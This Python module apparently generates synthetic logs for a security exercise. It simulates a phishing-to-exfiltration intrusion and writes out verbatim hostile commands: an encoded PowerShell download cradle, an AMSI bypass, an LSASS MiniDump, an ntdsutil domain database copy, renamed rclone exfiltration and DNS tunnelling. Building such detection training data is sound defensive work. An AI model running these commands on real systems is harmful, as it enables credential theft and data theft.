"""The attack inside: a phished clerk, stolen credentials, sideways moves, data carried out."""

import base64
from random import Random

from tocsin.exercise.attack_edge import STAGING
from tocsin.exercise.clock import Clock, iso
from tocsin.exercise.cloud_day import ABROAD, CloudWriter
from tocsin.exercise.company import Company
from tocsin.exercise.network_day import NetworkWriter
from tocsin.exercise.windows_records import (
    OFFICE,
    PS_PATH,
    SECURITY,
    SYSMON,
    SYSTEM32,
    WindowsWriter,
)

PHISHED = "nh-ws07"
CLERK = "piers.hollis"
STOLEN_ADMIN = "dario.fenwick"
FILE_SERVER = "nh-fs01"
CONTROLLER = "nh-dc01"
DROP = "203.0.113.90"
TUNNEL = "t.tidewharf.example"
_SYSTEM = "NT AUTHORITY\\SYSTEM"
_CRADLE = f"IEX (New-Object Net.WebClient).DownloadString('http://{STAGING}/d/stage.ps1')"
_BEACON = (
    9000107,
    "LARKMOOR tasking check-in over HTTP, fixed length cookie",
    "Malware Command and Control Activity Detected",
    1,
)
_REMOTE_SERVICE = (
    9000144,
    "LARKMOOR service control manager opened over SMB from a workstation",
    "Attempted Administrator Privilege Gain",
    1,
)


def phish(
    windows: WindowsWriter,
    network: NetworkWriter,
    cloud: CloudWriter,
    company: Company,
    clock: Clock,
    rng: Random,
) -> None:
    """Eight hours before the end a clerk opens an invoice with a macro in it."""
    at = clock.before_end(8.05)
    word = OFFICE + "WINWORD.EXE"
    document = f'"{word}" /n "C:\\Users\\{CLERK}\\Downloads\\Invoice_88121.docm"'
    windows.process(at, PHISHED, CLERK, word, document, OFFICE + "OUTLOOK.EXE")
    encoded = base64.b64encode(_CRADLE.encode("utf-16-le")).decode()
    command = f"powershell.exe -nop -w hidden -enc {encoded}"
    windows.process(at + 9, PHISHED, CLERK, PS_PATH, command, word, document)
    windows.script(at + 10, PHISHED, CLERK, _CRADLE)
    blinded = "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"
    windows.script(at + 12, PHISHED, CLERK, blinded)
    desk = company.address(PHISHED)
    network.request(at + 11, desk, STAGING, STAGING, "/d/stage.ps1", "Mozilla/4.0")
    windows.connection(at + 11, PHISHED, CLERK, PS_PATH, (STAGING, 80))
    for number in range(96):
        beat = at + 60 + number * 280 + rng.random() * 25
        ends = (desk, 50100 + number, STAGING, 443)
        network.connection(beat, ends, ("tcp", "ssl"), 1240, 610, duration_s=0.8)
        if number % 8 == 0:
            network.alert(beat, ends, _BEACON)
            windows.connection(beat, PHISHED, CLERK, PS_PATH, (STAGING, 443))
    place = ("Port Astrel", "Elsewhere")
    failed = clock.before_end(7.2)
    cloud.okta(failed, "user.mfa.okta_verify.deny_push", CLERK, ABROAD, place)
    cloud.okta(
        failed + 240, "user.account.report_suspicious_activity_by_enduser", CLERK, ABROAD, place
    )


def dump_credentials(windows: WindowsWriter, clock: Clock) -> None:
    """Seven hours before the end the memory of LSASS is read and written to a file."""
    at = clock.before_end(7.0)
    rundll = SYSTEM32 + "rundll32.exe"
    command = "rundll32.exe C:\\windows\\system32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\s.bin full"
    windows.process(
        at - 240, PHISHED, CLERK, SYSTEM32 + "nltest.exe", "nltest /dclist:larkmoor", PS_PATH
    )
    net = 'net group "Domain Admins" /domain'
    windows.process(at - 200, PHISHED, CLERK, SYSTEM32 + "net.exe", net, PS_PATH)
    windows.process(at, PHISHED, _SYSTEM, rundll, command, PS_PATH, original="RUNDLL32.EXE")
    data = {
        "UtcTime": iso(at + 1).replace("T", " ")[:-1],
        "SourceImage": rundll,
        "TargetImage": SYSTEM32 + "lsass.exe",
        "GrantedAccess": "0x1fffff",
        "CallTrace": f"{SYSTEM32}ntdll.dll+9fc24|{SYSTEM32}comsvcs.dll+2b1f",
        "SourceUser": _SYSTEM,
        "TargetUser": _SYSTEM,
    }
    windows.event(at + 1, PHISHED, SYSMON, 10, data)


def move_sideways(
    windows: WindowsWriter, network: NetworkWriter, company: Company, clock: Clock
) -> None:
    """With an administrator's secrets to the file server, then a try at the controller."""
    at = clock.before_end(6.3)
    desk = company.address(PHISHED)
    server = company.address(FILE_SERVER)
    windows.logon(at - 30, PHISHED, STOLEN_ADMIN, 9, "::1", "seclogo")
    windows.logon(at, FILE_SERVER, STOLEN_ADMIN, 3, desk, "NtLmSsp", PHISHED.upper())
    _open_share(windows, company, at + 1, FILE_SERVER, desk)
    windows.service_installed(
        at + 3, FILE_SERVER, STOLEN_ADMIN, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"
    )
    network.alert(at + 3, (desk, 50880, server, 445), _REMOTE_SERVICE)
    shell = SYSTEM32 + "cmd.exe"
    windows.process(at + 4, FILE_SERVER, _SYSTEM, shell, "cmd.exe", "C:\\Windows\\PSEXESVC.exe")
    windows.process(at + 20, FILE_SERVER, _SYSTEM, SYSTEM32 + "whoami.exe", "whoami /all", shell)
    listing = "cmd.exe /Q /c dir D:\\Shares 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1"
    provider = SYSTEM32 + "wbem\\WmiPrvSE.exe"
    windows.process(at + 900, "nh-erp01", STOLEN_ADMIN, shell, listing, provider)
    windows.logon(at + 899, "nh-erp01", STOLEN_ADMIN, 3, desk, "NtLmSsp", PHISHED.upper())
    attempt = clock.before_end(5.1)
    for number in range(4):
        windows.failed_logon(attempt + number * 7, CONTROLLER, "Administrator", 10, server)
    windows.logon(attempt + 60, CONTROLLER, STOLEN_ADMIN, 10, server, "User32", "NH-FS01")
    copy = 'ntdsutil.exe "ac i ntds" "ifm" "create full C:\\ProgramData\\m" q q'
    tool = SYSTEM32 + "ntdsutil.exe"
    windows.process(attempt + 150, CONTROLLER, STOLEN_ADMIN, tool, copy, shell)


def _open_share(
    windows: WindowsWriter, company: Company, at: float, host: str, address: str
) -> None:
    data = {
        "SubjectUserName": STOLEN_ADMIN,
        "SubjectUserSid": windows.sid(STOLEN_ADMIN),
        "SubjectDomainName": company.windows_domain,
        "ObjectType": "File",
        "IpAddress": address,
        "IpPort": "50879",
        "ShareName": "\\\\*\\ADMIN$",
        "AccessMask": "0x1",
    }
    windows.event(at, host, SECURITY, 5140, data)


def carry_out(
    windows: WindowsWriter, network: NetworkWriter, company: Company, clock: Clock, rng: Random
) -> None:
    """Two hours before the end the design files leave; names carry the rest."""
    at = clock.before_end(2.1)
    server = company.address(FILE_SERVER)
    image = "C:\\ProgramData\\svhost.exe"
    command = (
        "svhost.exe copy D:\\Shares\\Design drop:in --config C:\\ProgramData\\c.conf --transfers 8"
    )
    windows.process(
        at, FILE_SERVER, _SYSTEM, image, command, SYSTEM32 + "cmd.exe", original="rclone.exe"
    )
    windows.connection(at + 2, FILE_SERVER, _SYSTEM, image, (DROP, 443), source_port=50991)
    for number in range(3):
        ends = (server, 50991 + number, DROP, 443)
        sent = 1_900_000_000 + rng.randrange(10**8)
        network.connection(
            at + 600 + number * 620, ends, ("tcp", "ssl"), sent, 3_100_000, duration_s=598.2
        )
    desk = company.address(PHISHED)
    for number in range(140):
        name = f"{rng.getrandbits(192):048x}.{TUNNEL}"
        network.lookup(at + 900 + number * 4, desk, name, "TXT", ["ok"])
